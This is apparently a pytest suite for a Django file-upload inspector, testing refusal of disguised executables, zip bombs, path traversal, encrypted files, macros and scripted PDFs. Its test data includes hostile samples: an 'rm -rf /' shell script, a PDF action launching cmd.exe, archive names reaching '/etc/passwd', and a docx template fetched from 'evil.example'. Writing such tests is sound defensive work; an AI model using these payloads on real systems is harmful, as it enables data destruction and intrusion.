"""What is kept, what is refused, and what is said of it."""

from __future__ import annotations

import io
import struct
import time
import zipfile
from contextlib import suppress

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from common.uploads import RefusedFile, inspect
from common.uploads.findings import EMBEDDED, LAUNCH, MACROS, OPAQUE, REFUSALS, REMOTE, SCRIPT, WARNINGS
from common.uploads.kinds import KINDS
from common.uploads.pictures import rewritten

from . import samples
from .samples import upload


def refusal(name: str, content: bytes, role: str = "document", from_staff: bool = False) -> str:
    with pytest.raises(RefusedFile) as caught:
        inspect(upload(name, content), role=role, from_staff=from_staff)
    assert caught.value.message.endswith(".")
    return caught.value.code


def findings(name: str, content: bytes) -> tuple[str, list[str]]:
    found = inspect(upload(name, content), role="document", from_staff=True)
    return found.verdict, list(found.findings)


# ---------------------------------------------------------------- what is honest
@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("guide.pdf", samples.pdf()),
        ("GUIDE.PDF", samples.pdf(b"/Lang (fr)", b"1 0 << /Type /Font >>")),
        ("grille.docx", samples.office("docx")),
        ("tableau.xlsx", samples.office("xlsx")),
        ("support.pptx", samples.office("pptx")),
        ("graphe.pptx", samples.office("pptx", members={"ppt/embeddings/a.xlsx": samples.office("xlsx")})),
        ("modele.odt", samples.odf("text")),
        ("liste.csv", "métier;âge\nsoudeur;58\n".encode("cp1252")),
        ("notes.txt", "Notes d’équipe".encode("utf-16")),
    ],
)
def test_honest_files_are_clean_whoever_sends_them(name: str, content: bytes) -> None:
    found = inspect(upload(name, content), role="document", from_staff=False)
    assert (found.verdict, found.findings, found.size) == ("clean", [], len(content))
    assert len(found.sha256) == 64


def test_the_file_is_left_at_its_beginning() -> None:
    file = upload("guide.pdf", samples.pdf())
    inspect(file, role="document", from_staff=False)
    assert file.read(5) == b"%PDF-"


def test_a_picture_is_measured_as_it_will_be_seen() -> None:
    found = inspect(upload("photo.jpg", samples.photograph()), role="picture", from_staff=False)
    assert (found.content_type, found.width, found.height) == ("image/jpeg", 48, 64)


# ---------------------------------------------------------------- size, name, kind
class Heavy(SimpleUploadedFile):
    """A file of 60 MB that fails the test when a byte of it is read."""

    def __init__(self, name: str) -> None:
        super().__init__(name, b"")
        self.size = 60 * 1024 * 1024

    def read(self, *_args: object) -> bytes:
        raise AssertionError("read before it was weighed")


@pytest.mark.parametrize(("name", "role"), [("photo.jpg", "picture"), ("guide.pdf", "document")])
def test_a_heavy_file_is_refused_before_a_byte_is_read(name: str, role: str) -> None:
    with pytest.raises(RefusedFile) as caught:
        inspect(Heavy(name), role=role, from_staff=True)
    assert caught.value.code == "size"


def test_an_empty_file_is_refused() -> None:
    assert refusal("guide.pdf", b"") == "empty"


@pytest.mark.parametrize("name", ["gui\u202efdp.docx", "a\x00b.pdf", ".pdf", "..."])
def test_names_that_deceive_are_refused(name: str) -> None:
    file = upload("x", samples.pdf())
    file._name = name  # type: ignore[attr-defined]  # what a hostile client sends: Django cleans what comes through a form
    with pytest.raises(RefusedFile) as caught:
        inspect(file, role="document", from_staff=True)
    assert caught.value.code in {"name", "kind"}


@pytest.mark.parametrize(
    "name", ["a.exe", "a.svg", "a.html", "a.zip", "a.docm", "a.doc", "a.pdf.exe", "a", "a.heic"]
)
def test_kinds_that_members_may_not_send_are_refused_by_name(name: str) -> None:
    assert refusal(name, samples.pdf()) == "kind"


def test_drawings_are_refused_for_staff_too() -> None:
    assert refusal("logo.svg", b"<svg onload='x()'/>", role="picture", from_staff=True) == "kind"


# ---------------------------------------------------------------- disguise
@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("guide.pdf", b"MZ\x90\x00" + bytes(200), "program"),
        ("guide.pdf", b"\x7fELF" + bytes(200), "program"),
        ("guide.pdf", b"#!/bin/sh\nrm -rf /\n", "program"),
        ("guide.pdf", b"<html><script>x()</script></html>", "disguised"),
        ("guide.pdf", samples.picture(), "disguised"),
        ("grille.docx", samples.pdf(), "disguised"),
        ("grille.docx", samples.office("xlsx"), "disguised"),
        ("grille.docx", samples.zipped({"a.txt": b"a"}), "disguised"),
        ("modele.odt", samples.odf("spreadsheet"), "disguised"),
        ("notes.txt", b"<!DOCTYPE html><p>x", "disguised"),
        ("notes.txt", b"\xef\xbb\xbf  <script>x()</script>", "disguised"),
        ("liste.csv", b"a;b\x00\x01\x02", "disguised"),
        ("liste.csv", samples.pdf(), "disguised"),
        ("guide.pdf", samples.pdf()[:-40], "unreadable"),
        ("grille.docx", samples.office("docx")[:-30], "unreadable"),
    ],
)
def test_files_that_are_not_what_they_say_are_refused(name: str, content: bytes, code: str) -> None:
    assert refusal(name, content) == code
    assert refusal(name, content, from_staff=True) == code


def test_an_archive_behind_a_pdf_and_a_pdf_within_an_archive_are_refused() -> None:
    assert refusal("guide.pdf", samples.pdf() + samples.zipped({"a.exe": b"MZ"})) == "two"
    hidden = samples.zipped({"%PDF-1.4": b"x"} | {"[Content_Types].xml": b"x"})
    assert refusal("grille.docx", hidden) == "two"


def test_bytes_before_an_archive_are_refused() -> None:
    assert refusal("grille.docx", b"GIF89a" + samples.office("docx")) == "disguised"


# ---------------------------------------------------------------- pictures
@pytest.mark.parametrize(("width", "height"), [(30_000, 30_000), (100_000, 500), (60_000, 60_000)])
def test_a_picture_that_would_fill_the_memory_is_refused_by_its_head(width: int, height: int) -> None:
    begun = time.monotonic()
    content = samples.png_that_says(width, height)
    assert refusal("photo.png", content, role="picture", from_staff=True) == "pixels"
    assert time.monotonic() - begun < 1


def test_a_film_of_many_frames_counts_each_of_them() -> None:
    file = io.BytesIO()
    frames = [Image.new("P", (2000, 2000), shade) for shade in range(12)]
    frames[0].save(file, "GIF", save_all=True, append_images=frames[1:])
    assert refusal("anime.gif", file.getvalue(), role="picture", from_staff=True) == "pixels"


def test_members_pictures_are_written_anew_without_where_and_when() -> None:
    clean = Image.open(rewritten(upload("photo.jpg", samples.photograph())))
    assert (clean.size, dict(clean.getexif()), "exif" in clean.info) == ((48, 64), {}, False)


def test_what_hangs_behind_a_picture_is_gone_once_it_is_written_anew() -> None:
    content = samples.picture() + samples.zipped({"a.exe": b"MZ"})
    assert b"PK\x03\x04" not in rewritten(upload("photo.jpg", content)).read()


@pytest.mark.parametrize("kind", ["PNG", "WEBP"])
def test_transparency_is_kept_where_the_format_has_it(kind: str) -> None:
    file = io.BytesIO()
    Image.new("RGBA", (32, 32), (0, 0, 0, 0)).save(file, kind)
    assert Image.open(rewritten(upload(f"logo.{kind.lower()}", file.getvalue()))).mode == "RGBA"


def test_a_cut_picture_is_refused_when_it_is_written_anew() -> None:
    with pytest.raises(RefusedFile):
        rewritten(upload("photo.jpg", samples.picture(size=(800, 600))[:400]))


# ---------------------------------------------------------------- archives and bombs
def test_a_bomb_is_refused_without_being_unpacked() -> None:
    bomb = samples.zipped({"[Content_Types].xml": b"x", "word/document.xml": bytes(60 * 1024 * 1024)})
    begun = time.monotonic()
    assert refusal("grille.docx", bomb, from_staff=True) == "bomb"
    assert time.monotonic() - begun < 1


def test_too_many_members_are_a_bomb() -> None:
    assert (
        refusal("a.zip", samples.zipped({f"{n}.txt": b"" for n in range(5_001)}), from_staff=True) == "bomb"
    )


def test_a_directory_that_is_itself_enormous_is_not_read() -> None:
    content = bytearray(samples.zipped({"a.txt": b"a"}))
    at = content.rfind(b"PK\x05\x06")
    struct.pack_into("<L", content, at + 12, 50_000_000)
    assert refusal("a.zip", bytes(content), from_staff=True) == "bomb"


def test_members_that_share_their_bytes_are_refused() -> None:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("a.txt", b"a" * 1000)
        again = zipfile.ZipInfo("a.txt")
        for name in ("header_offset", "CRC", "compress_size", "file_size"):
            setattr(again, name, getattr(archive.infolist()[0], name))
        archive.filelist.append(again)
    assert refusal("a.zip", file.getvalue(), from_staff=True) in {"bomb", "two"}


def test_a_member_under_two_names_is_refused() -> None:
    content = samples.zipped({"a.txt": b"a"})
    at = content.rfind(b"a.txt")
    assert refusal("a.zip", content[:at] + b"b.txt" + content[at + 5 :], from_staff=True) == "two"


@pytest.mark.parametrize("name", ["../a.txt", "/etc/passwd", "a/../../b.txt", "C:/a.txt", "..\\a.txt"])
def test_names_that_lead_out_of_an_archive_are_refused(name: str) -> None:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr(zipfile.ZipInfo(name), b"a")
    assert refusal("a.zip", file.getvalue(), from_staff=True) == "path"


def test_links_in_an_archive_are_refused() -> None:
    file = io.BytesIO()
    link = zipfile.ZipInfo("lien")
    link.external_attr = 0o120777 << 16
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr(link, b"/etc/passwd")
    assert refusal("a.zip", file.getvalue(), from_staff=True) == "path"


@pytest.mark.parametrize(
    ("name", "code"), [("b.zip", "nested"), ("b.exe", "program"), ("b.pdf.js", "program")]
)
def test_archives_and_programs_in_an_archive_are_refused(name: str, code: str) -> None:
    assert refusal("a.zip", samples.zipped({name: b"x"}), from_staff=True) == code


def test_an_encrypted_archive_is_refused() -> None:
    content = bytearray(samples.zipped({"a.txt": b"a"}))
    content[content.rfind(b"PK\x01\x02") + 8] |= 1
    assert refusal("a.zip", bytes(content), from_staff=True) == "encrypted"


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("grille.docx", samples.compound("EncryptedPackage", "EncryptionInfo")),
        ("vieux.xls", samples.compound("EncryptedPackage")),
        ("guide.pdf", samples.pdf(b"/Encrypt 9 0 R")),
        ("modele.odt", samples.odf(members={"META-INF/manifest.xml": b"<manifest:encryption-data/>"})),
    ],
)
def test_locked_files_are_refused(name: str, content: bytes) -> None:
    assert refusal(name, content, from_staff=True) == "encrypted"


# ---------------------------------------------------------------- what runs
HOSTILE = [
    ("grille.docx", samples.office("docx", members={"word/vbaProject.bin": b"x"}), MACROS),
    ("grille.docx", samples.office("docx", members={"word/VBAPROJECT.BIN": b"x"}), MACROS),
    ("grille.docx", samples.office("docm"), None),
    ("tableau.xlsx", samples.office("xlsx", members={"xl/macrosheets/sheet1.xml": b"x"}), MACROS),
    ("tableau.xlsx", samples.office("xlsx", members={"xl/activeX/activeX1.bin": b"x"}), MACROS),
    (
        "support.pptx",
        samples.office(
            "pptx",
            members={"ppt/embeddings/a.xlsm": samples.office("xlsm", members={"xl/vbaProject.bin": b"x"})},
        ),
        MACROS,
    ),
    (
        "support.pptx",
        samples.office(
            "pptx", members={"ppt/embeddings/oleObject1.bin": samples.compound("\x01Ole10Native")}
        ),
        EMBEDDED,
    ),
    ("grille.docx", samples.office("docx", members={"word/media/a.exe": b"MZ"}), EMBEDDED),
    (
        "grille.docx",
        samples.office(
            "docx",
            members={
                "word/_rels/settings.xml.rels": b'<Relationship Id="r" TargetMode="External" '
                b'Type="x/attachedTemplate" Target="https://evil.example/t.dotm"/>'
            },
        ),
        REMOTE,
    ),
    ("modele.odt", samples.odf(members={"Basic/Standard/Module1.xml": b"x"}), MACROS),
    ("guide.pdf", samples.pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), SCRIPT),
    ("guide.pdf", samples.pdf(b"/OpenAction << /S /J#61vaScript /JS (x) >>"), SCRIPT),
    ("guide.pdf", samples.pdf(b"", b"1 0 << /S /JavaScript /JS (x) >>"), SCRIPT),
    ("guide.pdf", samples.pdf(b"/AA << /O << /S /Launch /F (cmd.exe) >> >>"), LAUNCH),
    ("guide.pdf", samples.pdf(b"/Names << /EmbeddedFiles << >> >>"), EMBEDDED),
    ("guide.pdf", samples.pdf(b"", bytes(8 * 1024 * 1024)), OPAQUE),
]


@pytest.mark.parametrize(("name", "content", "code"), [case for case in HOSTILE if case[2]])
def test_what_runs_is_refused_from_members_and_said_of_staff_files(
    name: str, content: bytes, code: str
) -> None:
    assert refusal(name, content) == code
    assert findings(name, content) == ("warned", [code])


def test_a_file_with_macros_under_another_name_is_looked_at_all_the_same() -> None:
    content = samples.office("docm", members={"word/vbaProject.bin": b"x"})
    assert refusal("grille.docx", content) == MACROS


def test_old_office_files_of_staff_are_taken_with_a_warning_when_they_hold_macros() -> None:
    assert findings("vieux.doc", samples.compound("Root Entry", "WordDocument")) == ("clean", [])
    names = ("Root Entry", "WordDocument", "Macros", "VBA", "_VBA_PROJECT")
    assert findings("vieux.doc", samples.compound(*names)) == ("warned", [MACROS])
    assert refusal("vieux.doc", samples.compound("Root Entry", "Workbook"), from_staff=True) == "disguised"


def test_a_directory_that_bites_its_tail_is_refused() -> None:
    content = bytearray(samples.compound("Root Entry", "WordDocument"))
    struct.pack_into("<L", content, 512 + 4, 1)
    assert refusal("vieux.doc", bytes(content), from_staff=True) == "unreadable"


def test_every_finding_has_a_warning_and_a_refusal() -> None:
    assert set(WARNINGS) == set(REFUSALS)


# ---------------------------------------------------------------- whatever comes
STARTS = st.sampled_from(
    [
        b"",
        b"%PDF-1.4\n",
        b"PK\x03\x04",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b"\xff\xd8\xff",
        b"\x89PNG\r\n\x1a\n",
        b"GIF89a",
    ]
)
NAMES = st.sampled_from([(role, f"x.{kind.suffix}") for role in KINDS for kind in KINDS[role]])


@settings(max_examples=300, deadline=None)
@given(NAMES, STARTS, st.binary(min_size=1, max_size=3000))
def test_no_sequence_of_bytes_makes_it_fail_otherwise_than_by_a_refusal(
    name: tuple[str, str], start: bytes, rest: bytes
) -> None:
    with suppress(RefusedFile):
        inspect(upload(name[1], start + rest), role=name[0], from_staff=True)


@settings(max_examples=200, deadline=None)
@given(st.data())
def test_honest_files_with_a_few_bytes_changed_never_make_it_fail(data: st.DataObject) -> None:
    name, content = data.draw(
        st.sampled_from(
            [
                ("a.pdf", samples.pdf(b"", b"1 0 << >>")),
                ("a.docx", samples.office()),
                ("a.odt", samples.odf()),
                ("a.doc", samples.compound("Root Entry", "WordDocument", "Macros")),
                ("a.zip", samples.zipped({"a.txt": b"a", "b.txt": b"b"})),
            ]
        )
    )
    changed = bytearray(content)
    for _turn in range(data.draw(st.integers(1, 6))):
        changed[data.draw(st.integers(0, len(changed) - 1))] = data.draw(st.integers(0, 255))
    with suppress(RefusedFile):
        inspect(upload(name, bytes(changed)), role="document", from_staff=True)
